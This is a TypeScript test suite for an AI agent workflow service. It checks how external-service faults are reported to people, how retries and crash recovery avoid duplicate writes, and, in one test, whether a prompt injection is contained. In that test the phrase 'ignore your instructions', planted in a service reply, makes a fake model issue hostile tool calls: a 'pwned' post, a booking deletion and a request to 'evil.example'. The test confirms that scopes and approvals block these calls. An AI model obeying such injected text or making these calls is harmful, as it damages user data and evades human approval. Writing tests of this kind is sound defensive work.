import { afterAll, beforeAll, expect, test } from "vitest";
import { CODES } from "../shared/errors/codes.ts";
import type { Block } from "../shared/workflow/content.ts";
import { startFakeAnthropic } from "./fakes/anthropic.ts";
import { type Brain, offlineBrain } from "./fakes/brain.ts";
import { follow, newPlace, pagedEvents, view } from "./support/journey.ts";
import {
  approveAs,
  completed,
  decide,
  effectsOf,
  type OutsideApp,
  proposeOver,
  startOutside,
  waitingApprovals,
} from "./support/outside.ts";

/** A service that misbehaves in every way it can, and one that gives orders to whoever reads its answers. */

let outside: OutsideApp;
beforeAll(async () => {
  outside = await startOutside();
});
afterAll(() => outside.stop());

/** Fault, what the ledger says of the write, and a word of the sentence the person reads. */
const FAULTS = [
  ["422", "failed", "service_refused"],
  ["401", "failed", "service_unauthorized"],
  ["307", "failed", "service_moved"],
  ["302", "unknown", "left"],
  ["500", "unknown", "left"],
  ["reset", "unknown", "left"],
  ["html", "unknown", "left"],
  ["429:1", "done", ""],
  ["huge", "done", ""],
] as const;

test("each fault of a service ends in a sentence: certain failures as failures, doubts as questions (FR-5.5, NFR-I1.3)", async () => {
  const place = await newPlace(outside.app.baseUrl);
  const { client } = place;
  const before = outside.fake.ledger().effects.length;
  const rows = FAULTS.map((_, index) => `Guest ${index},${String(index + 1).padStart(2, "0")}/12/2026`).join("\n");
  const planned = await proposeOver(place, "Post each row to Notices.", `Name,Date\n${rows}\n`);
  await approveAs(client, planned, "live");
  const waiting = await waitingApprovals(client, planned.id, FAULTS.length);
  expect(waiting).toHaveLength(FAULTS.length);
  for (const [index, [fault, status, code]] of FAULTS.entries()) {
    const approval = waiting[index];
    outside.fake.fail(fault);
    await decide(client, planned.id, approval?.id ?? "", "approved");
    // Told to the agent, or asked of the person: a failure that may pass is sent again before that.
    await follow(client, planned.id, ({ nodes, questions }) => {
      const answered = nodes.some((node) => node.tools.some((run) => run.id === approval?.toolCallId && run.result));
      return answered || questions.some((one) => one.status === "open");
    });
    const effect = (await effectsOf(client, planned.id)).find((one) => one.approvalId === approval?.id);
    expect({ fault, status: effect?.status }).toEqual({ fault, status });
    if (status === "failed") {
      expect(Object.keys(CODES)).toContain(effect?.failure?.code);
      expect(effect?.failure).toMatchObject({ code, doing: expect.stringContaining("Nothing changed") });
      expect(effect?.failure?.detail).toContain("Notices");
    }
    if (status !== "unknown") continue;
    await follow(client, planned.id, ({ questions }) => questions.some((one) => one.status === "open"));
    const asked = (await view(client, planned.id)).questions.find((one) => one.status === "open");
    expect(asked?.text, fault).toContain(`Guest ${index}`);
    await client.post(`/api/workflows/${planned.id}/answers`, { questionId: asked?.id, answer: "leave" });
  }
  const done = await completed(client, planned.id);
  expect(done.resultSummary).toMatch(/Sent to Notices: 2 of 9/);
  expect(done.resultSummary?.match(/the service did not do it/g)).toHaveLength(3);
  expect(done.resultSummary?.match(/nobody can tell/g)).toHaveLength(4);
  expect(
    outside.fake
      .ledger()
      .effects.slice(before)
      .map((one) => one.values.Name),
  ).toEqual(["Guest 7", "Guest 8"]);
  expect(outside.fake.requests.some((one) => one.path === "/__trap")).toBe(false);
});

test("a service nobody answers for: nothing was sent, and that is what people are told", async () => {
  const place = await newPlace(outside.app.baseUrl);
  const { client } = place;
  const planned = await proposeOver(place, "Post each row to Archive.", "Name,Date\nSara,01/12/2026\n");
  await approveAs(client, planned, "live");
  const [approval] = await waitingApprovals(client, planned.id, 1);
  await decide(client, planned.id, approval?.id ?? "", "approved");
  const done = await completed(client, planned.id);
  expect(done.resultSummary).toMatch(/Sent to Archive: 0 of 1/);
  const [effect] = await effectsOf(client, planned.id);
  expect(effect).toMatchObject({
    status: "failed",
    failure: { code: "service_unreachable", detail: expect.stringContaining("Nothing was sent") },
  });
  expect(done.questions).toEqual([]);
});

test("a doubt that is answered with 'again' is sent once more, under another key", async () => {
  const place = await newPlace(outside.app.baseUrl);
  const { client } = place;
  const before = outside.fake.ledger().effects.length;
  const planned = await proposeOver(place, "Post each row to Notices.", "Name,Date\nRepeat,01/12/2026\n");
  await approveAs(client, planned, "live");
  const [approval] = await waitingApprovals(client, planned.id, 1);
  outside.fake.fail("reset");
  await decide(client, planned.id, approval?.id ?? "", "approved");
  await follow(client, planned.id, ({ questions }) => questions.some((one) => one.status === "open"));
  const asked = (await view(client, planned.id)).questions.find((one) => one.status === "open");
  await client.post(`/api/workflows/${planned.id}/answers`, { questionId: asked?.id, answer: "again" });
  await completed(client, planned.id);
  expect(outside.fake.ledger().effects.slice(before)).toHaveLength(1);
  expect((await effectsOf(client, planned.id)).map((one) => one.status)).toEqual(["failed", "done"]);
  const keys = outside.fake.requests.slice(-2).map((one) => one.headers["x-request-reference"]);
  expect(new Set(keys).size).toBe(2);
});

test("a model that obeys a service's answer gets no further than the plan: touches and approvals hold (design 8)", async () => {
  const offline = offlineBrain();
  const orders: Block[] = [
    {
      type: "tool_use",
      id: "evil_1",
      name: "http_request",
      input: { service: "notices", method: "POST", path: "/notices", body: { text: "pwned" }, purpose: "x" },
    },
    {
      type: "tool_use",
      id: "evil_2",
      name: "http_request",
      input: { service: "bookings", method: "DELETE", path: "/bookings/bk_1", purpose: "x" },
    },
    {
      type: "tool_use",
      id: "evil_3",
      name: "http_request",
      input: { service: "bookings", method: "POST", path: "//evil.example/x", body: { a: 1 }, purpose: "x" },
    },
  ];
  const brain: Brain = async (request, images) => {
    const last = request.messages.at(-1)?.content ?? [];
    const ordered = last.some(
      (block) => block.type === "tool_result" && block.content.includes("ignore your instructions"),
    );
    return ordered ? orders : await offline(request, images);
  };
  const model = await startFakeAnthropic({ brain });
  const second = await startOutside({ ANTHROPIC_API_KEY: "any-key", ANTHROPIC_BASE_URL: model.url });
  try {
    const place = await newPlace(second.app.baseUrl);
    const { client } = place;
    const planned = await proposeOver(
      place,
      "Book every row of this list at Bookings.",
      "Name,Date,Seats\nSara,01/12/2026,2\n",
    );
    await approveAs(client, planned, "live");
    const [approval] = await waitingApprovals(client, planned.id, 1);
    second.fake.fail("inject");
    await decide(client, planned.id, approval?.id ?? "", "approved");
    const [evil] = await waitingApprovals(client, planned.id, 1);
    expect(evil).toMatchObject({ preview: { action: "DELETE /bookings/bk_1" } });
    expect(second.fake.ledger().effects).toHaveLength(1);
    await decide(client, planned.id, evil?.id ?? "", "rejected");
    await follow(client, planned.id, ({ nodes }) =>
      nodes.some((node) => node.tools.filter((run) => run.result?.ok === false).length >= 3 || node.attempt > 1),
    );
    await client.delete(`/api/workflows/${planned.id}`);
    expect(second.fake.ledger().effects).toHaveLength(1);
    expect(second.fake.requests.filter((one) => one.method !== "GET")).toHaveLength(1);
    const events = await pagedEvents(client, planned.id, 500);
    const refused = events.flatMap((event) =>
      event.name === "tool.settled" && !event.data.ok ? [event.data.output] : [],
    );
    expect(refused.some((text) => text.includes('may not reach "notices"'))).toBe(true);
    expect(refused.some((text) => text.includes("//"))).toBe(true);
  } finally {
    await second.stop();
    await model.close();
  }
});

test("SIGKILL of the runtime while a write is under way: it is known or asked about, and never done twice", async () => {
  const place = await newPlace(outside.app.baseUrl);
  const { client } = place;
  const before = outside.fake.ledger().effects.length;
  const planned = await proposeOver(
    place,
    "Book every row of this list at Bookings.",
    "Name,Date,Seats\nKill,01/12/2026,2\n",
  );
  await approveAs(client, planned, "live");
  const [approval] = await waitingApprovals(client, planned.id, 1);
  outside.fake.fail("stall_after:60000");
  await decide(client, planned.id, approval?.id ?? "", "approved");
  while (outside.fake.ledger().effects.length === before) await new Promise((resolve) => setTimeout(resolve, 20));
  outside.app.killRuntimes();
  const deadline = Date.now() + 60_000;
  for (;;) {
    const shown = await view(client, planned.id).catch(() => null);
    if (shown?.status === "completed") break;
    if (Date.now() > deadline) throw new Error(`It did not come back: ${shown?.status ?? "no answer"}`);
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  expect(outside.fake.ledger().effects.slice(before)).toHaveLength(1);
  expect(await effectsOf(client, planned.id)).toMatchObject([{ status: "done", sent: 2 }]);
});
